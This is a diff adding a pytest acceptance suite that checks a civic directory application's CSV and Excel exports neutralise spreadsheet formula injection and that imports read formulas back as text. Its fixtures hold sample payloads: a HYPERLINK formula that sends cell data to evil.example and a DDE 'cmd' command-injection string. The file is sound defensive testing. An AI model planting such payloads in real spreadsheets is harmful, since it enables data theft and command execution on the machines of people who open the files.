@@ -1,0 +1,196 @@
+"""Acceptance (issue 12, exports): every CSV and Excel file the application writes, made from
+data full of cells a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR), runs nothing — the
+CSV bytes and the workbook's cell types are read, not trusted — and every export that has an
+import comes back through it unchanged. Real services, a real database, real files."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import select
+
+from citizenspace.domain.catalog import Competence
+from citizenspace.domain.directory import EntryDraft
+from citizenspace.services.directory import DirectoryService
+from citizenspace.services.directory_io import DirectoryFiles
+from citizenspace.services.spreadsheets import FORMULA_SIGNS
+from citizenspace.store.models import DirectoryEntry
+
+LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")'
+CMD = "-2+3+cmd|' /C calc'!A0"
+PHONE = "+33 1 23 45 67 89 (standard)"
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    """The cells as a spreadsheet gets them from the bytes: UTF-8 with a BOM (strict), `;`."""
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    text = raw.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def runnable(cells: list[list[str]]) -> list[str]:
+    """The cells a spreadsheet would run as formulas."""
+    return [c for row in cells for c in row if c[:1] and c[0] in FORMULA_SIGNS]
+
+
+def xlsx_cells(path: Path) -> list:
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    return [c for row in load_workbook(path).active.iter_rows() for c in row]
+
+
+# --------------------------------------------------------------------------- directory
+
+
+def directory_snapshot(db) -> list[tuple]:
+    with db.read() as s:
+        return [
+            (e.id, e.name, e.competence, e.body_name, e.keywords, e.phone, e.email)
+            + (e.address, e.hours, e.website, e.theme_id, e.active)
+            for e in s.scalars(select(DirectoryEntry).order_by(DirectoryEntry.id))
+        ]
+
+
+@pytest.fixture
+def hostile_directory(db):
+    service = DirectoryService(db)
+    service.create(
+        EntryDraft(
+            LINK,
+            Competence.CITY,
+            body_name="@SUM(A1:A3)",
+            keywords=CMD,
+            phone=PHONE,
+            address="-2 degrés au portail",
+            hours="=1+1",
+        )
+    )
+    service.create(
+        EntryDraft(
+            "=1+1 Service",
+            Competence.URBAN_COMMUNITY,
+            body_name="+",
+            keywords="-",
+            phone="+44 20 7946 0958",
+            address="'=déjà une apostrophe",
+            hours="@",
+        )
+    )
+    tabbed = service.create(EntryDraft("''@deux apostrophes", Competence.STATE))
+    # What a form never keeps but an older version or another machine may have written:
+    # a tab and a carriage return in front of a value.
+    with db.write() as s:
+        entry = s.get(DirectoryEntry, tabbed.id)
+        entry.keywords = "\tmot-clé"
+        entry.hours = "\rle matin"
+    return db
+
+
+def test_a_directory_csv_runs_nothing_and_imports_back_unchanged(hostile_directory, tmp_path):
+    db = hostile_directory
+    before = directory_snapshot(db)
+    files = DirectoryFiles(db, DirectoryService(db))
+    path = tmp_path / "qui-fait-quoi.csv"
+    files.export(path)
+
+    assert path.read_bytes().startswith("\ufeffService;Compétence;Organisme;".encode())
+    cells = csv_cells(path)
+    assert runnable(cells) == []
+    flat = {c for row in cells for c in row}
+    for written in (
+        "'" + LINK,
+        "'@SUM(A1:A3)",
+        "'" + CMD,
+        "'" + PHONE,
+        "'-2 degrés au portail",
+        "'=1+1",
+        "'=1+1 Service",
+        "'+",
+        "'-",
+        "'@",
+        "'+442079460958",
+        "''=déjà une apostrophe",
+        "'''@deux apostrophes",
+        "'\tmot-clé",
+        "'\rle matin",
+    ):
+        assert written in flat, written
+
+    preview = files.preview(path)
+    assert (preview.created, preview.updated, preview.unchanged) == (0, 0, 3)
+    files.apply(preview)
+    assert directory_snapshot(db) == before
+
+
+def test_a_directory_workbook_holds_text_cells_and_imports_back_unchanged(
+    hostile_directory, tmp_path
+):
+    db = hostile_directory
+    before = directory_snapshot(db)
+    files = DirectoryFiles(db, DirectoryService(db))
+    path = tmp_path / "qui-fait-quoi.xlsx"
+    files.export(path)
+
+    cells = xlsx_cells(path)
+    assert {c.data_type for c in cells if c.value is not None} == {"s"}
+    by_value = {c.value: c for c in cells}
+    for typed in (
+        LINK,
+        "=1+1",
+        "@SUM(A1:A3)",
+        CMD,
+        PHONE,
+        "-2 degrés au portail",
+        "+",
+        "\tmot-clé",
+    ):
+        assert by_value[typed].data_type == "s" and by_value[typed].quotePrefix, typed
+    # Text that already looked neutralised gets one apostrophe more, taken away on import.
+    assert "'''@deux apostrophes" in by_value and "''=déjà une apostrophe" in by_value
+
+    preview = files.preview(path)
+    assert (preview.created, preview.updated, preview.unchanged) == (0, 0, 3)
+    files.apply(preview)
+    assert directory_snapshot(db) == before
+
+
+def test_a_workbook_from_an_older_version_with_formulas_imports_them_as_text(db, tmp_path):
+    """Older versions wrote "=..." as live formulas with no computed value: the import read
+    them as empty. They are read as the text in the cell, never computed."""
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["Service", "Compétence", "Horaires"])
+    sheet.append(["=1+1 Service", "Ville", LINK])
+    assert sheet["C2"].data_type == "f"
+    path = tmp_path / "ancien.xlsx"
+    book.save(path)
+    DirectoryFiles(db).import_file(path)
+    with db.read() as s:
+        entry = s.scalars(select(DirectoryEntry)).one()
+        assert (entry.name, entry.hours) == ("=1+1 Service", LINK)
+
+
+def test_a_csv_with_formulas_typed_in_imports_them_as_text(db, tmp_path):
+    path = tmp_path / "liste.csv"
+    quoted_link = '"' + LINK.replace('"', '""') + '"'
+    path.write_bytes(
+        (
+            "Service;Compétence;Téléphone;Horaires\r\n"
+            f"=1+1 Service;Ville;{PHONE};{quoted_link}\r\n"
+            "Point @SUM;Ville;;'-2 degrés\r\n"
+        ).encode("cp1252")
+    )
+    DirectoryFiles(db).import_file(path)
+    with db.read() as s:
+        rows = {e.name: (e.phone, e.hours) for e in s.scalars(select(DirectoryEntry))}
+    # An apostrophe in front of a formula sign is what our exports (and Excel saving them
+    # again) put there: it is taken away; everything else is kept as typed.
+    assert rows == {"=1+1 Service": (PHONE, LINK), "Point @SUM": ("", "-2 degrés")}
